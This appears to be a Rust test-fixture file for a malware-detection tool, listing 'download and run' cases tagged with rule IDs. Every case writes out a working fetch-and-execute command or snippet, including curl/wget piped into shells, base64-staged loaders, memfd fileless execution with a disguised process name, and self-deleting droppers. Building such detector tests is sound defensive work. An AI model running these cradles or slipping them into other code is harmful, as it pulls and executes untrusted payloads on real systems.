use super::{bash, c, perl, python, sh};
use crate::case::Case;
use crate::tools::Tool;

const GROUP: &str = "download and run";

pub(super) fn cases() -> Vec<Case> {
    vec![
        sh(GROUP, "fetched and run, wget", &["D-DLX-FETCHEXEC"], "wget -q -O /tmp/x http://203.0.113.7/x.sh && chmod +x /tmp/x && /tmp/x"),
        python(
            GROUP,
            "fetched and run, python",
            &["D-DLX-FETCHEXEC"],
            "import urllib.request, os, subprocess\ndata = urllib.request.urlopen('http://cdn.example/agent-linux').read()\nopen('/var/tmp/.a', 'wb').write(data)\nos.chmod('/var/tmp/.a', 0o755)\nsubprocess.call(['/var/tmp/.a'])\n",
        ),
        perl(
            GROUP,
            "fetched and run, perl",
            &["D-DLX-FETCHEXEC"],
            r#"use IO::Socket::INET; my $s = IO::Socket::INET->new('198.51.100.99:8080'); print $s "GET /b.sh HTTP/1.0\r\nUser-Agent: perl\r\n\r\n"; local $/; my $d = <$s>; $d =~ s/^.*?\r\n\r\n//s;
               open(F, '>', '/usr/bin/.cache'); print F $d; close F; chmod 0755, '/usr/bin/.cache'; system('/usr/bin/.cache');"#,
        ),
        sh(GROUP, "fetched over TLS and run, curl", &["D-DLX-FETCHEXEC"], "cd /var; curl -ks -o up https://updates.example/linux-amd64; chmod 700 up; ./up")
            .with(&[Tool::Curl]),
        sh(GROUP, "piped into a shell, wget", &["D-DLX-PIPESH"], "wget -q -O - http://203.0.113.7/i.sh | sh"),
        bash(GROUP, "piped into a shell, curl", &["D-DLX-PIPESH"], "curl -s https://get.example/setup | bash -s -- -q").with(&[Tool::Curl]).suspicious(),
        sh(GROUP, "piped into an interpreter, curl", &["D-DLX-PIPESH"], "curl -s http://192.0.2.88/m.py | python3 -").with(&[Tool::Curl, Tool::Python]),
        sh(GROUP, "piped into an interpreter, perl", &["D-DLX-PIPESH"], "wget -qO- http://192.0.2.14/bot.pl | perl").with(&[Tool::Perl]),
        sh(
            GROUP,
            "stages in base64, shell",
            &["D-DLX-PIPESH", "D-DLX-FETCHEXEC"],
            // wget -qO- http://203.0.113.80/s.sh | sh
            "echo d2dldCAtcU8tIGh0dHA6Ly8yMDMuMC4xMTMuODAvcy5zaCB8IHNo | base64 -d | sh",
        ),
        python(
            GROUP,
            "stages in base64, python",
            &["D-DLX-FETCHEXEC", "D-DLX-PIPESH"],
            "import base64\nexec(base64.b64decode(base64.b64encode(b\"import os\\nos.system('wget -q -O /tmp/.k http://198.51.100.7:81/k.sh; sh -c \\\"chmod +x /tmp/.k; /tmp/.k\\\"')\\n\")))\n",
        ),
        python(
            GROUP,
            "run from memory, python",
            &["D-EVA-MEMFDEXEC"],
            "import os, urllib.request\ndata = urllib.request.urlopen('http://203.0.113.60/app-x86_64').read()\nfd = os.memfd_create('x', 0)\nos.write(fd, data)\nos.execv('/proc/self/fd/%d' % fd, ['[kworker/1:2]'])\n",
        ),
        c(
            GROUP,
            "run from memory, c",
            &["D-EVA-MEMFDEXEC"],
            r#"int main() { int s = dial("192.0.2.61", 80), m = syscall(SYS_memfd_create, "", 1); const char *q = "GET /linux.bin HTTP/1.0\r\n\r\n"; write(s, q, strlen(q));
               char b[65536]; int n, all = 0; static char page[1 << 20]; while ((n = read(s, b, sizeof b)) > 0) { memcpy(page + all, b, n); all += n; }
               char *body = strstr(page, "\r\n\r\n"); if (!body) return 1; body += 4; write(m, body, all - (body - page)); char *a[] = {"x", 0}; fexecve(m, a, a + 1); perror("exec"); return 1; }"#,
        ),
        sh(
            GROUP,
            "run from shared memory, wget",
            &["D-DLX-FETCHEXEC"],
            "cd /dev/shm || cd /tmp; wget -q http://xn.example/lib.sh -O .x; chmod 777 .x; ./.x; rm -f .x",
        ),
        python(
            GROUP,
            "run from shared memory, python",
            &["D-DLX-FETCHEXEC", "D-DLX-SHM"],
            "import http.client, os\nc = http.client.HTTPConnection('198.51.100.200', 8000)\nc.request('GET', '/d.elf')\nd = c.getresponse().read()\np = '/dev/shm/.d'\nopen(p, 'wb').write(d)\nos.chmod(p, 0o700)\nos.spawnv(os.P_WAIT, p, ['d'])\n",
        ),
        sh(
            GROUP,
            "written, run and removed, shell",
            &["D-DLX-CRADLE", "D-DLX-FETCHEXEC"],
            "wget -qO /var/tmp/u http://203.0.113.55/u.sh; chmod +x /var/tmp/u; /var/tmp/u; rm -f /var/tmp/u",
        ),
        c(
            GROUP,
            "written, run and removed, c",
            &["D-DLX-CRADLE", "D-DLX-FETCHEXEC"],
            r#"int main() { int s = dial("192.0.2.55", 8081); const char *q = "GET /q.sh HTTP/1.0\r\nUser-Agent: curl\r\n\r\n"; write(s, q, strlen(q)); static char page[1 << 20]; int n, all = 0;
               while ((n = read(s, page + all, 4096)) > 0) all += n; char *body = strstr(page, "\r\n\r\n") + 4; int f = open("/run/.q", O_CREAT | O_WRONLY, 0755); if (f < 0) f = open("/tmp/.q", O_CREAT | O_WRONLY, 0755);
               write(f, body, all - (body - page)); close(f); if (!fork()) { execl("/run/.q", "q", 0); execl("/tmp/.q", "q", 0); _exit(1); } wait(0); unlink("/run/.q"); unlink("/tmp/.q"); return 0; }"#,
        ),
        sh(
            GROUP,
            "fetched as source and compiled, wget",
            &["D-DLX-COMPILE", "D-DLX-FETCHEXEC"],
            "wget -q -O /tmp/s.c http://203.0.113.30/s.c; echo 'int main(void){return 0;} void _start(void){__asm__(\"mov $60,%eax;xor %edi,%edi;syscall\");}' > /tmp/s.c; gcc -fno-use-linker-plugin -nostdinc -nostdlib -static -o /tmp/s /tmp/s.c && /tmp/s && echo compiled",
        )
        .with(&[Tool::Compiler])
        .suspicious(),
        python(
            GROUP,
            "fetched as source and compiled, python",
            &["D-DLX-COMPILE", "D-DLX-FETCHEXEC"],
            "import subprocess, urllib.request\nurllib.request.urlopen('http://src.example/p.c').read()\nopen('/var/tmp/p.c', 'w').write('void _start(void){__asm__(\"mov $60,%eax;xor %edi,%edi;syscall\");}')\nsubprocess.check_call(['gcc', '-fno-use-linker-plugin', '-nostdinc', '-nostdlib', '-static', '-o', '/var/tmp/p', '/var/tmp/p.c'])\nsubprocess.check_call(['/var/tmp/p'])\n",
        )
        .with(&[Tool::Compiler])
        .suspicious(),
        sh(
            GROUP,
            "archive fetched, unpacked and run, shell",
            &["D-DLX-FETCHEXEC", "D-DLX-DROPEXEC"],
            "cd /tmp && wget -q http://198.51.100.31/kit.tar.gz && tar xzf kit.tar.gz && sh -c 'exec $(find /tmp -type f -perm -100 | head -1)'",
        ),
        python(
            GROUP,
            "archive fetched, unpacked and run, python",
            &["D-DLX-FETCHEXEC", "D-DLX-DROPEXEC"],
            "import io, tarfile, urllib.request, os, subprocess\nd = urllib.request.urlopen('http://kit.example/pack.tar').read()\ntarfile.open(fileobj=io.BytesIO(d)).extractall('/opt/k')\nfor top, _, names in os.walk('/opt/k'):\n    for n in names:\n        p = os.path.join(top, n)\n        os.chmod(p, 0o755)\n        subprocess.call([p])\n",
        ),
    ]
}
